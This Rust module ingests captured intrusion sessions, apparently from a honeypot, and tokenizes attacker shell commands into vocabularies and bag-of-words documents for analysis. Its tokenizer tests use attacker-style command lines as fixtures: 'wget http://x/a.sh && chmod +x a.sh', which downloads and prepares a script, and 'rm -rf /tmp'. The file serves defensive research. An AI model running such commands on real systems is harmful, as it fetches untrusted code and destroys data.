//! Session ingestion, shell-command tokenization and vocabularies.
//!
//! Sessions arrive as JSON lines `{"ip": .., "ts": .., "commands": [..]}`. Each command line is
//! split into lexical tokens by [`tokenize`]; tokens are mapped to dense ids by a
//! [`Vocabulary`] that reserves id 0 for padding and id 1 for the merged hapax class.

use std::collections::{BTreeMap, HashMap};
use std::fmt;
use std::io::{BufRead, Write};
use std::str::FromStr;
use std::sync::LazyLock;

use rayon::prelude::*;
use regex::Regex;
use serde::{Deserialize, Serialize};
use thiserror::Error;

pub const PAD_ID: u32 = 0;
pub const HAPAX_ID: u32 = 1;
pub const PAD_TOKEN: &str = "<PAD>";
pub const HAPAX_TOKEN: &str = "<HAPAX>";

#[derive(Debug, Error)]
pub enum CorpusError {
    #[error("line {0}: {1}")]
    MalformedLine(usize, String),
    #[error("corpus contains no documents")]
    EmptyCorpus,
    #[error("invalid session id {0:?}")]
    BadSessionId(String),
    #[error("vocabulary file line {0}: {1}")]
    BadVocabulary(usize, String),
    #[error(transparent)]
    Io(#[from] std::io::Error),
    #[error(transparent)]
    Json(#[from] serde_json::Error),
}

/// One captured intrusion session.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SessionRecord {
    pub ip: String,
    pub ts: u64,
    pub commands: Vec<String>,
}

/// `{ip}-{index}`, where `index` is the zero-based position of the session among all
/// sessions of that ip in time order.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct SessionId {
    pub ip: String,
    pub index: usize,
}

impl fmt::Display for SessionId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}-{}", self.ip, self.index)
    }
}

impl FromStr for SessionId {
    type Err = CorpusError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let bad = || CorpusError::BadSessionId(s.to_string());
        let (ip, index) = s.rsplit_once('-').ok_or_else(bad)?;
        if ip.is_empty() {
            return Err(bad());
        }
        let index = index.parse().map_err(|_| bad())?;
        Ok(SessionId { ip: ip.to_string(), index })
    }
}

/// A line that could not be parsed as a session record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MalformedLine {
    /// 1-based line number.
    pub line: usize,
    pub reason: String,
}

#[derive(Debug, Default)]
pub struct ParsedRecords {
    pub records: Vec<SessionRecord>,
    pub malformed: Vec<MalformedLine>,
}

/// Reads JSON-lines session records in input order.
///
/// Blank lines are skipped. Malformed lines are collected in [`ParsedRecords::malformed`];
/// with `strict` the first one aborts the parse instead.
pub fn parse_records<R: BufRead>(reader: R, strict: bool) -> Result<ParsedRecords, CorpusError> {
    let mut out = ParsedRecords::default();
    for (i, line) in reader.lines().enumerate() {
        let line = line?;
        if line.trim().is_empty() {
            continue;
        }
        let parsed = serde_json::from_str::<SessionRecord>(&line)
            .map_err(|e| e.to_string())
            .and_then(|r| {
                if r.ip.is_empty() {
                    Err("empty ip".to_string())
                } else {
                    Ok(r)
                }
            });
        match parsed {
            Ok(r) => out.records.push(r),
            Err(reason) if strict => return Err(CorpusError::MalformedLine(i + 1, reason)),
            Err(reason) => out.malformed.push(MalformedLine { line: i + 1, reason }),
        }
    }
    Ok(out)
}

pub fn write_records<W: Write>(mut w: W, records: &[SessionRecord]) -> Result<(), CorpusError> {
    for r in records {
        serde_json::to_writer(&mut w, r)?;
        w.write_all(b"\n")?;
    }
    Ok(())
}

static REDIRECTION: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(2>&1)|(>&)|(&>)|(>\|)|(>>)|([012]>)").unwrap());

/// Splits one shell command line into tokens.
///
/// Redirections become `_r_`; `>`, `<` and `=` stand alone; `||`, `|`, `&&`, `&` become
/// `_P_`, `_p_`, `_A_`, `_a_`; the result is split on `;` `,` `"` `(` `)` and space with empty
/// pieces dropped.
pub fn tokenize(line: &str) -> Vec<String> {
    let words = REDIRECTION.replace_all(line, " _r_ ");
    let words = words
        .replace('>', " > ")
        .replace('<', " < ")
        .replace('=', " = ")
        .replace("||", " _P_ ")
        .replace('|', " _p_ ")
        .replace("&&", " _A_ ")
        .replace('&', " _a_ ");
    words
        .split([';', ',', '"', '(', ')', ' '])
        .filter(|t| !t.is_empty())
        .map(str::to_string)
        .collect()
}

/// Concatenation of [`tokenize`] over the session's command lines.
pub fn tokenize_session(rec: &SessionRecord) -> Vec<String> {
    rec.commands.iter().flat_map(|c| tokenize(c)).collect()
}

/// Per-record session ids, parallel to `records`.
///
/// Sessions of an ip are ordered by timestamp, equal timestamps by input position.
pub fn session_ids(records: &[SessionRecord]) -> Vec<SessionId> {
    let mut order: Vec<usize> = (0..records.len()).collect();
    order.sort_by_key(|&i| records[i].ts);
    let mut next: HashMap<&str, usize> = HashMap::new();
    let mut ids = vec![None; records.len()];
    for i in order {
        let slot = next.entry(records[i].ip.as_str()).or_insert(0);
        ids[i] = Some(SessionId { ip: records[i].ip.clone(), index: *slot });
        *slot += 1;
    }
    ids.into_iter().map(Option::unwrap).collect()
}

/// A document before id assignment.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TokenDocument {
    /// Source ip, or a rendered [`SessionId`] for session-level documents.
    pub key: String,
    /// Session timestamp for session-level documents.
    pub ts: Option<u64>,
    pub tokens: Vec<String>,
}

/// One document per distinct ip, holding that ip's session tokens in timestamp order.
/// Documents appear in order of each ip's first record.
pub fn aggregate_by_ip(records: &[SessionRecord]) -> Vec<TokenDocument> {
    let tokenized: Vec<Vec<String>> = records.par_iter().map(tokenize_session).collect();
    let mut order: Vec<usize> = (0..records.len()).collect();
    order.sort_by_key(|&i| records[i].ts);

    let mut slot_of: HashMap<&str, usize> = HashMap::new();
    let mut docs: Vec<TokenDocument> = Vec::new();
    for r in records {
        slot_of.entry(r.ip.as_str()).or_insert_with(|| {
            docs.push(TokenDocument { key: r.ip.clone(), ts: None, tokens: Vec::new() });
            docs.len() - 1
        });
    }
    for i in order {
        let d = slot_of[records[i].ip.as_str()];
        docs[d].tokens.extend_from_slice(&tokenized[i]);
    }
    docs
}

/// One document per session, keyed by its [`SessionId`], in input order.
pub fn sessions_as_documents(records: &[SessionRecord]) -> Vec<TokenDocument> {
    let ids = session_ids(records);
    records
        .par_iter()
        .zip(ids)
        .map(|(r, id)| TokenDocument {
            key: id.to_string(),
            ts: Some(r.ts),
            tokens: tokenize_session(r),
        })
        .collect()
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum VocabularyMode {
    /// Every distinct token gets its own id.
    Full,
    /// Tokens occurring exactly once in the corpus share [`HAPAX_ID`].
    #[serde(rename = "hapax")]
    HapaxMerged,
}

impl FromStr for VocabularyMode {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "full" => Ok(VocabularyMode::Full),
            "hapax" | "hapax_merged" => Ok(VocabularyMode::HapaxMerged),
            other => Err(format!("unknown vocabulary mode {other:?} (expected full|hapax)")),
        }
    }
}

impl fmt::Display for VocabularyMode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            VocabularyMode::Full => "full",
            VocabularyMode::HapaxMerged => "hapax",
        })
    }
}

/// Dense token ↔ id map.
#[derive(Debug, Clone, PartialEq)]
pub struct Vocabulary {
    mode: VocabularyMode,
    /// id → token; ids 0 and 1 hold the reserved placeholders.
    tokens: Vec<String>,
    /// token → id. In merged mode hapax tokens map to [`HAPAX_ID`].
    index: HashMap<String, u32>,
    /// Corpus occurrences per id.
    counts: Vec<u64>,
    hapax_types: usize,
}

impl Vocabulary {
    /// Builds a vocabulary over `documents`, assigning ids in order of first occurrence.
    pub fn build(documents: &[TokenDocument], mode: VocabularyMode) -> Result<Self, CorpusError> {
        if documents.is_empty() {
            return Err(CorpusError::EmptyCorpus);
        }
        let freq: HashMap<&str, u64> = documents
            .par_iter()
            .fold(HashMap::new, |mut m, d| {
                for t in &d.tokens {
                    *m.entry(t.as_str()).or_insert(0) += 1;
                }
                m
            })
            .reduce(HashMap::new, |mut a, b| {
                for (t, c) in b {
                    *a.entry(t).or_insert(0) += c;
                }
                a
            });
        let hapax_types = freq.values().filter(|&&c| c == 1).count();

        let mut vocab = Vocabulary {
            mode,
            tokens: vec![PAD_TOKEN.to_string(), HAPAX_TOKEN.to_string()],
            index: HashMap::with_capacity(freq.len()),
            counts: vec![0, 0],
            hapax_types,
        };
        for t in documents.iter().flat_map(|d| d.tokens.iter()) {
            if vocab.index.contains_key(t.as_str()) {
                continue;
            }
            let c = freq[t.as_str()];
            if mode == VocabularyMode::HapaxMerged && c == 1 {
                vocab.index.insert(t.clone(), HAPAX_ID);
                vocab.counts[HAPAX_ID as usize] += 1;
            } else {
                vocab.index.insert(t.clone(), vocab.tokens.len() as u32);
                vocab.tokens.push(t.clone());
                vocab.counts.push(c);
            }
        }
        Ok(vocab)
    }

    pub fn mode(&self) -> VocabularyMode {
        self.mode
    }

    /// Size of the id space, reserved ids included.
    pub fn len(&self) -> usize {
        self.tokens.len()
    }

    pub fn is_empty(&self) -> bool {
        self.tokens.len() <= 2
    }

    /// Number of ids that stand for corpus tokens: every distinct token in full mode; the
    /// non-hapax tokens plus the shared hapax id in merged mode.
    pub fn token_classes(&self) -> usize {
        let merged = self.mode == VocabularyMode::HapaxMerged && self.hapax_types > 0;
        self.tokens.len() - 2 + usize::from(merged)
    }

    /// Number of distinct tokens that occur exactly once in the build corpus.
    pub fn hapax_types(&self) -> usize {
        self.hapax_types
    }

    pub fn id(&self, token: &str) -> Option<u32> {
        self.index.get(token).copied()
    }

    pub fn token(&self, id: u32) -> Option<&str> {
        self.tokens.get(id as usize).map(String::as_str)
    }

    pub fn count(&self, id: u32) -> u64 {
        self.counts.get(id as usize).copied().unwrap_or(0)
    }

    /// Maps tokens to ids. Unknown tokens are dropped in full mode and mapped to
    /// [`HAPAX_ID`] in merged mode.
    pub fn encode<S: AsRef<str>>(&self, tokens: &[S]) -> Vec<u32> {
        tokens
            .iter()
            .filter_map(|t| match (self.id(t.as_ref()), self.mode) {
                (Some(id), _) => Some(id),
                (None, VocabularyMode::HapaxMerged) => Some(HAPAX_ID),
                (None, VocabularyMode::Full) => None,
            })
            .collect()
    }

    /// Writes `id<TAB>token<TAB>count` rows after a `# mode=` comment line. Tabs, newlines and
    /// backslashes inside tokens are escaped.
    pub fn write_tsv<W: Write>(&self, mut w: W) -> Result<(), CorpusError> {
        writeln!(w, "# mode={} hapax_types={}", self.mode, self.hapax_types)?;
        for (id, (tok, c)) in self.tokens.iter().zip(&self.counts).enumerate() {
            writeln!(w, "{id}\t{}\t{c}", escape_tsv(tok))?;
        }
        Ok(())
    }

    pub fn read_tsv<R: BufRead>(r: R) -> Result<Self, CorpusError> {
        let mut mode = VocabularyMode::Full;
        let mut hapax_types = 0;
        let mut tokens = Vec::new();
        let mut counts = Vec::new();
        for (i, line) in r.lines().enumerate() {
            let line = line?;
            let bad = |m: &str| CorpusError::BadVocabulary(i + 1, m.to_string());
            if let Some(header) = line.strip_prefix('#') {
                for kv in header.split_whitespace() {
                    match kv.split_once('=') {
                        Some(("mode", m)) => mode = m.parse().map_err(|e: String| bad(&e))?,
                        Some(("hapax_types", n)) => {
                            hapax_types = n.parse().map_err(|_| bad("bad hapax_types"))?
                        }
                        _ => {}
                    }
                }
                continue;
            }
            if line.is_empty() {
                continue;
            }
            let mut cols = line.splitn(3, '\t');
            let (Some(id), Some(tok), Some(c)) = (cols.next(), cols.next(), cols.next()) else {
                return Err(bad("expected 3 columns"));
            };
            let id: usize = id.parse().map_err(|_| bad("bad id"))?;
            if id != tokens.len() {
                return Err(bad("ids must be dense and ascending"));
            }
            tokens.push(unescape_tsv(tok));
            counts.push(c.parse().map_err(|_| bad("bad count"))?);
        }
        if tokens.len() < 2 {
            return Err(CorpusError::BadVocabulary(0, "missing reserved ids".into()));
        }
        let index = tokens
            .iter()
            .enumerate()
            .skip(2)
            .map(|(id, t)| (t.clone(), id as u32))
            .collect();
        Ok(Vocabulary { mode, tokens, index, counts, hapax_types })
    }
}

fn escape_tsv(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\t' => out.push_str("\\t"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            c => out.push(c),
        }
    }
    out
}

fn unescape_tsv(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('t') => out.push('\t'),
            Some('n') => out.push('\n'),
            Some('r') => out.push('\r'),
            Some(other) => out.push(other),
            None => out.push('\\'),
        }
    }
    out
}

/// Sparse id → count map.
pub type Bow = BTreeMap<u32, u32>;

/// Bag of words of `tokens` under `vocab`'s unknown-token policy.
pub fn to_bow<S: AsRef<str>>(tokens: &[S], vocab: &Vocabulary) -> Bow {
    bow_of_ids(&vocab.encode(tokens))
}

pub fn bow_of_ids(ids: &[u32]) -> Bow {
    let mut bow = Bow::new();
    for &id in ids {
        *bow.entry(id).or_insert(0) += 1;
    }
    bow
}

/// An encoded document.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Document {
    pub key: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub ts: Option<u64>,
    pub tokens: Vec<u32>,
}

impl Document {
    pub fn encode(doc: &TokenDocument, vocab: &Vocabulary) -> Self {
        Document { key: doc.key.clone(), ts: doc.ts, tokens: vocab.encode(&doc.tokens) }
    }

    pub fn bow(&self) -> Bow {
        bow_of_ids(&self.tokens)
    }
}

pub fn encode_documents(docs: &[TokenDocument], vocab: &Vocabulary) -> Vec<Document> {
    docs.par_iter().map(|d| Document::encode(d, vocab)).collect()
}

pub fn write_documents<W: Write>(mut w: W, docs: &[Document]) -> Result<(), CorpusError> {
    for d in docs {
        serde_json::to_writer(&mut w, d)?;
        w.write_all(b"\n")?;
    }
    Ok(())
}

pub fn read_documents<R: BufRead>(r: R) -> Result<Vec<Document>, CorpusError> {
    let mut out = Vec::new();
    for (i, line) in r.lines().enumerate() {
        let line = line?;
        if line.trim().is_empty() {
            continue;
        }
        out.push(
            serde_json::from_str(&line)
                .map_err(|e| CorpusError::MalformedLine(i + 1, e.to_string()))?,
        );
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn rec(ip: &str, ts: u64, cmds: &[&str]) -> SessionRecord {
        SessionRecord {
            ip: ip.into(),
            ts,
            commands: cmds.iter().map(|s| s.to_string()).collect(),
        }
    }

    fn doc(tokens: &[&str]) -> TokenDocument {
        TokenDocument {
            key: "k".into(),
            ts: None,
            tokens: tokens.iter().map(|s| s.to_string()).collect(),
        }
    }

    #[test]
    fn parses_a_record() {
        let input = r#"{"ip":"192.0.2.1","ts":100,"commands":["ls"]}"#;
        let parsed = parse_records(input.as_bytes(), true).unwrap();
        assert_eq!(parsed.records, vec![rec("192.0.2.1", 100, &["ls"])]);
    }

    #[test]
    fn empty_stream_gives_no_records() {
        let parsed = parse_records(&b""[..], true).unwrap();
        assert!(parsed.records.is_empty() && parsed.malformed.is_empty());
    }

    #[test]
    fn malformed_lines_are_collected_or_fatal() {
        let err = parse_records(&b"not json\n"[..], true).unwrap_err();
        assert!(matches!(err, CorpusError::MalformedLine(1, _)));

        let input = "{\"ip\":\"a\",\"ts\":1,\"commands\":[]}\nnot json\n{\"ip\":\"\",\"ts\":1,\"commands\":[]}\n{\"ip\":\"b\",\"ts\":-3,\"commands\":[]}\n";
        let parsed = parse_records(input.as_bytes(), false).unwrap();
        assert_eq!(parsed.records.len(), 1);
        let lines: Vec<usize> = parsed.malformed.iter().map(|m| m.line).collect();
        assert_eq!(lines, vec![2, 3, 4]);
    }

    #[test]
    fn tokenizer_examples() {
        assert_eq!(tokenize("echo hi>log 2>&1"), ["echo", "hi", ">", "log", "_r_"]);
        assert_eq!(
            tokenize("ls||rm -rf /tmp;a=b"),
            ["ls", "_P_", "rm", "-rf", "/tmp", "a", "=", "b"]
        );
        assert!(tokenize("").is_empty());
        assert_eq!(
            tokenize("wget http://x/a.sh && chmod +x a.sh"),
            ["wget", "http://x/a.sh", "_A_", "chmod", "+x", "a.sh"]
        );
    }

    #[test]
    fn session_tokens_concatenate_lines() {
        assert_eq!(tokenize_session(&rec("a", 0, &["ls", "pwd"])), ["ls", "pwd"]);
        assert!(tokenize_session(&rec("a", 0, &[])).is_empty());
        assert_eq!(tokenize_session(&rec("a", 0, &["a|b", "c"])), ["a", "_p_", "b", "c"]);
    }

    #[test]
    fn session_ids_follow_time_then_input_order() {
        let recs = vec![
            rec("x", 9, &[]),
            rec("y", 1, &[]),
            rec("x", 5, &[]),
            rec("x", 5, &[]),
        ];
        let ids: Vec<String> = session_ids(&recs).iter().map(|i| i.to_string()).collect();
        assert_eq!(ids, ["x-2", "y-0", "x-0", "x-1"]);
        let parsed: SessionId = "192.0.2.1-4".parse().unwrap();
        assert_eq!(parsed, SessionId { ip: "192.0.2.1".into(), index: 4 });
        assert!("nodash".parse::<SessionId>().is_err());
    }

    #[test]
    fn aggregates_by_ip_in_time_order() {
        let recs = vec![rec("192.0.2.1", 9, &["id"]), rec("192.0.2.1", 5, &["ls"])];
        let docs = aggregate_by_ip(&recs);
        assert_eq!(docs.len(), 1);
        assert_eq!(docs[0].tokens, ["ls", "id"]);

        let recs = vec![rec("a", 1, &["ls"]), rec("b", 2, &["id"]), rec("a", 3, &["pwd"])];
        let docs = aggregate_by_ip(&recs);
        assert_eq!(docs.len(), 2);
        assert_eq!(docs[0].key, "a");
        assert_eq!(docs[0].tokens, ["ls", "pwd"]);
    }

    #[test]
    fn full_vocabulary_reserves_two_ids() {
        let v = Vocabulary::build(&[doc(&["a", "b", "a"])], VocabularyMode::Full).unwrap();
        assert_eq!(v.len(), 4);
        assert_eq!(v.id("a"), Some(2));
        assert_eq!(v.id("b"), Some(3));
        assert_eq!(v.count(2), 2);
        assert_eq!(v.token(0), Some(PAD_TOKEN));
    }

    #[test]
    fn hapax_tokens_share_one_id() {
        let docs = [doc(&["a", "b"]), doc(&["a", "c"])];
        let v = Vocabulary::build(&docs, VocabularyMode::HapaxMerged).unwrap();
        assert_eq!(v.len(), 3);
        assert_eq!(v.id("b"), Some(HAPAX_ID));
        assert_eq!(v.id("c"), Some(HAPAX_ID));
        assert_eq!(v.id("a"), Some(2));
        assert_eq!(v.count(HAPAX_ID), 2);

        let full = Vocabulary::build(&docs, VocabularyMode::Full).unwrap();
        assert_eq!(full.token_classes() - v.token_classes(), v.hapax_types() - 1);
    }

    #[test]
    fn empty_corpus_is_rejected() {
        assert!(matches!(
            Vocabulary::build(&[], VocabularyMode::Full),
            Err(CorpusError::EmptyCorpus)
        ));
    }

    #[test]
    fn bow_counts_and_unknown_policy() {
        let v = Vocabulary::build(&[doc(&["ls", "wget", "ls"])], VocabularyMode::Full).unwrap();
        let bow = to_bow(&["ls", "ls", "wget"], &v);
        assert_eq!(bow, Bow::from([(v.id("ls").unwrap(), 2), (v.id("wget").unwrap(), 1)]));
        assert!(to_bow::<&str>(&[], &v).is_empty());
        assert!(to_bow(&["zz"], &v).is_empty());

        let m = Vocabulary::build(&[doc(&["ls", "ls"])], VocabularyMode::HapaxMerged).unwrap();
        assert_eq!(to_bow(&["zz"], &m), Bow::from([(HAPAX_ID, 1)]));
    }

    #[test]
    fn vocabulary_tsv_round_trip() {
        let docs = [doc(&["a\tb", "x\\y", "a\tb", "nl\n", "once"])];
        for mode in [VocabularyMode::Full, VocabularyMode::HapaxMerged] {
            let v = Vocabulary::build(&docs, mode).unwrap();
            let mut buf = Vec::new();
            v.write_tsv(&mut buf).unwrap();
            let back = Vocabulary::read_tsv(&buf[..]).unwrap();
            assert_eq!(back.len(), v.len());
            assert_eq!(back.mode(), mode);
            assert_eq!(back.token_classes(), v.token_classes());
            for id in 2..v.len() as u32 {
                assert_eq!(back.token(id), v.token(id));
                assert_eq!(back.id(v.token(id).unwrap()), Some(id));
            }
        }
    }

    #[test]
    fn documents_round_trip() {
        let docs = vec![
            Document { key: "a-0".into(), ts: Some(3), tokens: vec![2, 3, 2] },
            Document { key: "b".into(), ts: None, tokens: vec![] },
        ];
        let mut buf = Vec::new();
        write_documents(&mut buf, &docs).unwrap();
        assert_eq!(read_documents(&buf[..]).unwrap(), docs);
        assert_eq!(docs[0].bow(), Bow::from([(2, 2), (3, 1)]));
    }

    fn command_like() -> impl Strategy<Value = String> {
        proptest::collection::vec(
            prop_oneof![
                Just(">".to_string()),
                Just("|".to_string()),
                Just("&".to_string()),
                Just(" ".to_string()),
                Just(";".to_string()),
                Just("2>&1".to_string()),
                "[a-z0-9=<(),\"/.-]{1,4}",
            ],
            0..20,
        )
        .prop_map(|parts| parts.concat())
    }

    proptest! {
        #[test]
        fn tokens_never_contain_separators(line in command_like()) {
            for t in tokenize(&line) {
                prop_assert!(!t.is_empty());
                prop_assert!(!t.contains([';', ',', '"', '(', ')', ' ']));
            }
        }

        #[test]
        fn aggregation_preserves_token_count(
            lines in proptest::collection::vec((0u8..4, 0u64..50, command_like()), 0..30)
        ) {
            let recs: Vec<SessionRecord> = lines
                .into_iter()
                .map(|(ip, ts, c)| rec(&format!("10.0.0.{ip}"), ts, &[c.as_str()]))
                .collect();
            let per_session: usize = recs.iter().map(|r| tokenize_session(r).len()).sum();
            let aggregated: usize = aggregate_by_ip(&recs).iter().map(|d| d.tokens.len()).sum();
            prop_assert_eq!(per_session, aggregated);
        }

        #[test]
        fn vocabulary_ids_round_trip(
            words in proptest::collection::vec("[a-e]{1,2}", 1..60),
            merged in any::<bool>()
        ) {
            let mode = if merged { VocabularyMode::HapaxMerged } else { VocabularyMode::Full };
            let d = TokenDocument { key: "k".into(), ts: None, tokens: words };
            let v = Vocabulary::build(std::slice::from_ref(&d), mode).unwrap();
            for id in 2..v.len() as u32 {
                prop_assert_eq!(v.id(v.token(id).unwrap()), Some(id));
            }
            let full = Vocabulary::build(std::slice::from_ref(&d), VocabularyMode::Full).unwrap();
            if merged && v.hapax_types() > 0 {
                prop_assert_eq!(full.token_classes() - v.token_classes(), v.hapax_types() - 1);
            }
            let ids = v.encode(&d.tokens);
            prop_assert_eq!(ids.len(), d.tokens.len());
        }
    }
}
